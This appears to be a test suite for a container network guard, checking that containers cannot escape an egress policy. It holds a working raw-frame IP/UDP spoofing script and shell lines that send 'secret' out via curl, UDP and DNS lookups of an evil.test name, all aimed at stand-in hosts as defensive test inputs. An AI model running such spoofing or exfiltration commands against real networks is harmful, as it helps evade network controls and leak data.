/** Containers behind bridges that want past the guard, or to be taken for another container. */

import assert from "node:assert/strict";
import { MachineDocker } from "../support/docker_machine.ts";
import { some } from "../support/log.ts";
import { logOf, machineSuite } from "../support/machine_suite.ts";
import { readLog } from "../support/run.ts";

const test = machineSuite();

/** Only one image may send anything. */
const POLICY = "198.51.100.80:9000/udp image=shop/app:*\n";

/** Opens a flow from port 4000 that is allowed, says its address, and keeps its socket. */
const VICTIM = `
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20); s.bind(("", 4000))
s.connect(("198.51.100.80", 9000)); s.send(b"mine"); s.recv(100)
print(s.getsockname()[0], flush=True)
time.sleep(1000)`;

/**
 * Writes a frame with another container's address (the first argument) into the bridge, for each port and destination; one
 * of them to a service that listens on the machine's own loopback device.
 */
const FORGE = `
import socket, struct, sys
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff
gateway = [l.split() for l in open("/proc/net/route")][1:]
gateway = socket.inet_ntoa(struct.pack("<I", int(next(g[2] for g in gateway if g[1] == "00000000"), 16)))
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
probe.sendto(b"x", (gateway, 9))
mac = None
while not mac or mac == "00:00:00:00:00:00":
    mac = next((l.split()[3] for l in open("/proc/net/arp") if l.startswith(gateway + " ")), None)
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); link.bind(("eth0", 0))
head = bytes.fromhex(mac.replace(":", "")) + link.getsockname()[4] + b"\\x08\\x00"
def send(to, port, payload, sport):
    udp = struct.pack("!HHHH", sport, port, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(sys.argv[1]), socket.inet_aton(to))
    link.send(head + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + udp)
send("198.51.100.80", 9000, b"forged", 4000)
send("198.51.100.80", 9000, b"forged", 4001)
send("203.0.113.66", 9000, b"secret", 4000)
send("127.0.0.1", 9999, b"knock", 4000)
try: probe.setsockopt(socket.SOL_IP, 19, 1); print("transparent")
except OSError as error: print(error.errno)`;

/** Says what comes to a port of the machine's loopback device, and that it is there. */
const LOCAL = `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 9999)); print("ready", flush=True)
while True: print(s.recv(100).decode(), flush=True)`;

test("a container forges frames with another container's address, also to the machine's loopback", async (s) => {
  await using docker = await MachineDocker.start(s.machine);
  const runVictim = async () => {
    const id = await docker.must("run", "--rm", "-d", "shop/app:1", "python3", "-uc", VICTIM);
    const waited = await s.machine.sh(
      `until /usr/bin/docker logs "$1" | grep .; do sleep 0.05; done`,
      id,
    );
    return { id, address: waited.stdout.trim().split("\n").at(-1)! };
  };
  const forge = (address: string) =>
    docker.run("run", "--rm", "shop/other:1", "python3", "-c", FORGE, address);
  // Without the guard it gets through.
  const before = await runVictim();
  await forge(before.address);
  assert.ok((await s.received()).some((it) => it.kind === "udp" && it.data === "forged"));
  await docker.must("kill", before.id);
  await s.guard(POLICY);
  await s.begin();
  const local = s.machine.spawn(["python3", "-uc", LOCAL]);
  const victim = await runVictim();
  const forged = await forge(victim.address);
  assert.equal(forged.stdout, "1\n", forged.stderr); // EPERM for IP_TRANSPARENT
  const log = await readLog(logOf(s));
  const message = "udp packet of a container, of no socket that is judged";
  some(log, { type: "gate", dst_ip: "198.51.100.80", src_port: 4000, message });
  some(log, { type: "gate", dst_ip: "203.0.113.66", message });
  // What the machine itself sends there comes behind the knock.
  await s.machine.sh("echo -n end >/dev/udp/127.0.0.1/9999");
  const reader = local.stdout.pipeThrough(new TextDecoderStream()).getReader();
  let heard = "";
  while (!heard.includes("end")) heard += (await reader.read()).value ?? "end: it is gone";
  assert.equal(heard, "ready\nend\n");
  await reader.cancel();
  local.kill("SIGKILL");
  await s.attackerGotNothing();
  const got = (await s.received()).flatMap((it) => it.kind === "udp" ? [it.data] : []);
  assert.deepEqual(got, ["mine"]);
});

/** Everything that a container without a rule can try by itself. $1 the address of the machine on its network */
const TRY = `
for port in $2; do echo | nc -w 1 "$1" $port && echo "answered on $port"; done
curl -s -m 2 -d secret http://203.0.113.66/ >/dev/null
curl -s -m 2 -g -d secret 'http://[2001:db8:66::66]/'
python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"secret", ("203.0.113.66", 9000))'
nslookup secret.evil.test 198.51.100.53 >/dev/null
true`;

/** Networks by their \`docker network create\` options, all made while the guard is there. */
const NETWORKS: Record<string, string[]> = {
  "IPv6 on a bridge": ["--ipv6", "--subnet", "fd00:66::/64"],
  "a bridge that does not masquerade, under a name of its own": [
    ...["-o", "com.docker.network.bridge.enable_ip_masquerade=false"],
    ...["-o", "com.docker.network.bridge.name=odd0"],
  ],
  "macvlan": ["-d", "macvlan", "-o", "parent=uplink", "--subnet", "192.0.2.0/24"],
};

test("IPv6, bridges without masquerading and macvlan networks are no way out, nor the proxy's ports", async (s) => {
  await using docker = await MachineDocker.start(s.machine);
  await s.guard(POLICY);
  const ports = (await s.machine.sh(
    `ss -Hltn src 127.0.0.1 | sed -n 's/.*127.0.0.1:\\([0-9]*\\) .*/\\1/p' | sort -u | tr '\\n' ' '`,
  )).stdout;
  assert.match(ports, /\d/);
  for (const [name, options] of Object.entries(NETWORKS)) {
    const network = await docker.must("network", "create", ...options, name.replace(/\W/g, "-"));
    const range = await docker.must(
      ...["network", "inspect", "-f", "{{range .IPAM.Config}}{{.Gateway}} {{end}}", network],
    );
    const gateway = range.split(" ").find((address) => address.includes(".")) ?? "192.0.2.2";
    const run = ["run", "--rm", "--network", network, "shop/other:1"];
    const tried = await docker.run(...run, "sh", "-c", TRY, "sh", gateway, ports);
    assert.doesNotMatch(tried.stdout, /answered/, name);
    await s.attackerGotNothing();
  }
});
